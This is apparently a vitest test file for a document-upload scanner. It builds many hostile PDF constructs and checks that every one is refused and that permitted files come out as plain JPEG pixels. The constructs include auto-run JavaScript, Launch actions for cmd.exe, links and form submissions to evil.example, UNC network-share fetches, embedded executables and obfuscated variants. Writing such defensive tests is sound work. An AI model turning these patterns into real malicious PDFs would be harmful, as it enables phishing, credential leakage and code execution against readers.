import { type WrittenPdfOptions, writtenPdf } from "@sim-registration/sample-documents";
import { describe, expect, it } from "vitest";
import { withQpdf } from "../../../../test/support/with-qpdf.ts";
import { inspectFile } from "../inspect-file.ts";
import { drawPages } from "../safe-copies/draw-pages.ts";

/** Returns a value, or a reference to it. */
type Say = (value: string) => string;
type Attack = (say: Say) => WrittenPdfOptions;

const NETWORK_FOLDER = "(\\\\\\\\evil.example\\\\a)";
const NETWORK_FOLDER_UTF16 = "<feff005c005c006500760069006c005c0061>";

const onOpening =
	(action: (say: Say) => string): Attack =>
	(say) => ({ catalog: `/OpenAction ${say(`<< ${action(say)} >>`)}` });
const inPage =
	(annotation: (say: Say) => string): Attack =>
	(say) => ({ page: `/Annots [${say(`<< /Type /Annot /Rect [0 0 9 9] ${annotation(say)} >>`)}]` });
const script = (say: Say) => `/S ${say("/JavaScript")} /JS ${say("(app.alert\\(1\\))")}`;
const scriptAction = (say: Say) => say(`<< ${script(say)} >>`);
const fileAt = (say: Say, path: string) => say(`<< /Type /Filespec /F ${say(path)} >>`);
const attachment = (say: Say) =>
	say(`<< /Type /Filespec /F (a.exe) /EF ${say("<< /F 40 0 R >>")} >>`);

const ACTING: Readonly<Record<string, Attack>> = {
	"a script on opening": onOpening(script),
	"a script by an escaped name": onOpening((say) => `/S ${say("/J#61vaScript")} /J#53 (a)`),
	"a script in the list of scripts": (say) => ({
		catalog: `/Names ${say(`<< /JavaScript ${say(`<< /Names [(a) ${scriptAction(say)}] >>`)} >>`)}`,
	}),
	"a script when the document is closed": (say) => ({
		catalog: `/AA ${say(`<< /WC ${scriptAction(say)} >>`)}`,
	}),
	"a script of a page": (say) => ({ page: `/AA ${say(`<< /O ${scriptAction(say)} >>`)}` }),
	"a script of an annotation": inPage((say) => `/Subtype /Link /A ${scriptAction(say)}`),
	"a script of an annotation's moment": inPage(
		(say) => `/Subtype /Widget /AA ${say(`<< /PO ${scriptAction(say)} >>`)}`,
	),
	"a script of a field": (say) => ({
		catalog: `/AcroForm << /Fields [${say(`<< /FT /Tx /T (a) /AA << /K ${scriptAction(say)} >> >>`)}] >>`,
	}),
	"a script of an outline": (say) => ({
		catalog: `/Outlines << /First ${say(`<< /Title (a) /A ${scriptAction(say)} >>`)} >>`,
	}),
	"a script that follows": onOpening(
		(say) => `/S /GoTo /D [3 0 R /Fit] /Next ${scriptAction(say)}`,
	),
	"a script of a rendition": onOpening((say) => `/S /Rendition /OP 0 /JS ${say("(a)")}`),
	"a program to start": onOpening((say) => `/S ${say("/Launch")} /F ${say("(cmd.exe)")}`),
	"a program to start for Windows": onOpening(
		(say) => `/S /Launch /Win ${say("<< /F (cmd.exe) >>")}`,
	),
	"an address on opening": onOpening(
		(say) => `/S ${say("/URI")} /URI ${say("(https://evil.example)")}`,
	),
	"an address among the actions that follow": onOpening(
		(say) =>
			`/S /GoTo /D [3 0 R /Fit] /Next [${say(`<< /S ${say("/URI")} /URI (https://evil.example) >>`)}]`,
	),
	"an address as the last of the actions that follow": onOpening(
		(say) =>
			`/S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> ${say(`<< /S ${say("/URI")} /URI (https://evil.example) >>`)}]`,
	),
	"an address when a page opens": (say) => ({
		page: `/AA << /O ${say(`<< /S ${say("/URI")} /URI (https://evil.example) >>`)} >>`,
	}),
	"an address that is a script": inPage(
		(say) => `/Subtype /Link /A << /S /URI /URI ${say("(JavaScript:a)")} >>`,
	),
	"an address that is a script in two-byte letters": inPage(
		(say) =>
			`/Subtype /Link /A << /S /URI /URI ${say("<feff006a0061007600610073006300720069007000740 03a0061>")} >>`,
	),
	"a form sent on opening": onOpening(
		(say) => `/S ${say("/SubmitForm")} /F (https://evil.example)`,
	),
	"data fetched on opening": onOpening((say) => `/S ${say("/ImportData")} /F ${NETWORK_FOLDER}`),
	"another file on opening": onOpening((say) => `/S ${say("/GoToR")} /F (other.pdf) /D [0 /Fit]`),
	"another machine's file": inPage(
		(say) => `/Subtype /Link /A << /S /GoToR /F ${fileAt(say, NETWORK_FOLDER)} /D [0 /Fit] >>`,
	),
	"another machine's file in two-byte letters": inPage(
		(say) => `/Subtype /Link /A << /S /GoToR /F ${say(NETWORK_FOLDER_UTF16)} /D [0 /Fit] >>`,
	),
	"another machine's file as an address": inPage(
		(say) => `/Subtype /Link /A << /S /GoToR /F ${say("(file:////evil/share/a.pdf)")} >>`,
	),
	"another machine's file as an address with escaped slashes": inPage(
		(say) => `/Subtype /Link /A << /S /GoToR /F ${say("(file:%2F%2f%5C%5cevil/a.pdf)")} >>`,
	),
	"another machine's file as a link's address with escaped slashes": inPage(
		(say) => `/Subtype /Link /A << /S /URI /URI ${say("(file:%2F%2Fevil/share/a.exe)")} >>`,
	),
	"another machine's file as a link's address": inPage(
		(say) => `/Subtype /Link /A << /S /URI /URI ${say("(file://evil/share/a.exe)")} >>`,
	),
	"another machine's file as a link's path": inPage(
		(say) => `/Subtype /Link /A << /S /URI /URI ${say(NETWORK_FOLDER)} >>`,
	),
	"a file in a file": onOpening((say) => `/S ${say("/GoToE")} /T << /R /C >>`),
	"a thread of another file": onOpening(
		(say) => `/S ${say("/Thread")} /F ${fileAt(say, "(a.pdf)")} /D 0`,
	),
	"a rendition on opening": onOpening(
		(say) => `/S ${say("/Rendition")} /R << /S /MR /C << /S /MCD /D (https://evil.example) >> >>`,
	),
	"a film on opening": onOpening((say) => `/S ${say("/Movie")} /T (a)`),
	"a sound on opening": onOpening((say) => `/S ${say("/Sound")} /Sound 40 0 R`),
	"a form of XFA that is sent": (say) => ({
		catalog: `/AcroForm ${say("<< /Fields [] /XFA 40 0 R >>")}`,
		objects: [{ dictionary: "", data: '<submit target="https://evil.example"/>' }],
	}),
	"a stream in another file": (say) => ({
		page: "/Contents 40 0 R",
		objects: [{ dictionary: `/F ${say(NETWORK_FOLDER)} /FFilter /FlateDecode`, data: "" }],
	}),
	"a page of another file": (say) => ({
		page: "/Resources << /XObject << /X 40 0 R >> >>",
		objects: [
			{
				dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref ${say("<< /F (a.pdf) /Page 0 >>")}`,
				data: "",
			},
		],
	}),
};

const HOLDING: Readonly<Record<string, Attack>> = {
	"a file in the list of files": (say) => ({
		catalog: `/Names ${say(`<< /EmbeddedFiles ${say(`<< /Names [(a) ${attachment(say)}] >>`)} >>`)}`,
		objects: [{ dictionary: "/Type /EmbeddedFile", data: "MZ" }],
	}),
	"a file that a page belongs to": (say) => ({
		catalog: `/AF [${attachment(say)}]`,
		objects: [{ dictionary: "", data: "MZ" }],
	}),
	"a file of an annotation": inPage((say) => `/Subtype ${say("/FileAttachment")} /FS (a)`),
	"a film of an annotation": inPage((say) => `/Subtype ${say("/Movie")} /Movie << /F (a.mov) >>`),
	"a sound of an annotation": inPage((say) => `/Subtype ${say("/Sound")}`),
	"media of an annotation": inPage((say) => `/Subtype ${say("/RichMedia")}`),
	"a screen for media": inPage((say) => `/Subtype ${say("/Screen")}`),
};

/** The first number of an attack's `objects`, after all other objects. */
const FIRST_STREAM = 40;

function build(attack: Attack, depth: 0 | 1 | 2): WrittenPdfOptions {
	const said: string[] = [];
	const say: Say = (value) => {
		if (depth === 0) return value;
		said.push(value);
		if (depth === 2) said.push(`${10 + said.length - 1} 0 R`);
		return `${10 + said.length - 1} 0 R`;
	};
	const { objects = [], ...options } = attack(say);
	while (10 + said.length < FIRST_STREAM) said.push("null");
	return { ...options, objects: [...said, ...objects] };
}

type Write = (attack: Attack) => Promise<Uint8Array> | Uint8Array;

/** Ways that our own search has to follow. */
const WAYS: Readonly<Record<string, Write>> = {
	"as it is": (attack) => writtenPdf(build(attack, 0)).bytes,
	"through references to references": (attack) => writtenPdf(build(attack, 2)).bytes,
	"in a file without a table of objects": (attack) => {
		const text = Buffer.from(writtenPdf(build(attack, 1)).bytes).toString("latin1");
		return Buffer.from(text.replace("xref\n0 1", "tidy\n0 1"), "latin1");
	},
};

/** Ways that qpdf undoes before the search, which then finds the same objects. */
const QPDF_WAYS: Readonly<Record<string, Write>> = {
	"in object streams": (attack) =>
		withQpdf(writtenPdf(build(attack, 1)).bytes, "--object-streams=generate"),
	"encrypted with an empty password": (attack) =>
		withQpdf(writtenPdf(build(attack, 1)).bytes, "--encrypt", "", "owner", "256", "--"),
};
/** One for each kind of value that shows it: a name, texts, a stream's dictionary, a list. */
const SHOWN_BY = [
	"a script on opening",
	"an address that is a script",
	"another machine's file in two-byte letters",
	"a stream in another file",
	"a script in the list of scripts",
];

describe.each(Object.entries(WAYS))("%s,", (_way, write) => {
	it.each(Object.entries(ACTING))("%s is refused", async (_title, attack) => {
		const code = await inspectFile("pdf", Buffer.from(await write(attack)));
		expect(code).toBe("error_file_pdf_script");
	});

	it.each(Object.entries(HOLDING))("%s is refused", async (_title, attack) => {
		const code = await inspectFile("pdf", Buffer.from(await write(attack)));
		expect(["error_file_pdf_attachment", "error_file_pdf_script"]).toContain(code);
	});
});

it.each([
	["an annotation", "E X D U Fo Bl PO PC PV PI"],
	["a page", "O C"],
	["a field", "K F V C"],
	["the document", "WC WS DS WP DP"],
])("an address at any moment of %s is refused", async (_title, moments) => {
	for (const moment of moments.split(" ")) {
		const page = `/AA << /${moment} << /S /URI /URI (https://evil.example) >> >>`;
		const code = await inspectFile("pdf", Buffer.from(writtenPdf({ page }).bytes));
		expect([moment, code]).toEqual([moment, "error_file_pdf_script"]);
	}
});

describe.each(Object.entries(QPDF_WAYS))("%s,", (_way, write) => {
	const attacks = Object.entries(ACTING).filter(([title]) => SHOWN_BY.includes(title));

	it.each(attacks)("%s is refused", async (_title, attack) => {
		const code = await inspectFile("pdf", Buffer.from(await write(attack)));
		expect(code).toBe("error_file_pdf_script");
	});
});

/** The markers of a JPEG in their order: what a picture needs, and no place for anything else. */
const SEGMENTS = /^(d8 e0 (db )+c0 (c4 )+da d9)$/;

/** The markers of a JPEG (ITU-T T.81, table B.1), and what follows its end. */
function markersOf(jpeg: Uint8Array): string {
	const bytes = Buffer.from(jpeg);
	const found: string[] = [];
	let at = 0;
	while (at < bytes.length) {
		if (bytes[at] !== 0xff) return `${found.join(" ")} and something else`;
		const marker = bytes.readUInt8(at + 1);
		found.push(marker.toString(16));
		at += 2;
		if (marker !== 0xd8 && marker !== 0xd9) at += bytes.readUInt16BE(at);
		while (marker === 0xda && (bytes[at] !== 0xff || bytes[at + 1] === 0)) at += 1;
	}
	return found.join(" ");
}

it.each(Object.entries({ ...ACTING, ...HOLDING }))(
	"%s is only pixels in the safe copy of a file that was let in",
	async (_title, attack) => {
		const pictures: string[] = [];
		await drawPages("pdf", Buffer.from(writtenPdf(build(attack, 0)).bytes), 20, ({ jpeg }) => {
			pictures.push(jpeg === undefined ? "none" : markersOf(jpeg));
		});
		expect(pictures).toEqual([expect.stringMatching(SEGMENTS)]);
	},
);
